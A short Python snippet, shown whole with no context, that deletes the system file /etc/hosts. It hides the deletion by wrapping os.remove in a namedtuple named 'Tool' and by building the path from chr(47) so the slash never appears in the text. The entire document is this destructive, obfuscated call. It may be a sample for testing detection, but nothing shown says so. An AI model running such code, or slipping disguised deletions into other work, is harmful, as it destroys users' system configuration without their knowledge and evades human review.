import os
from collections import namedtuple

Tool = namedtuple("Tool", "remove")
Tool(os.remove).remove(chr(47) + "etc" + chr(47) + "hosts")
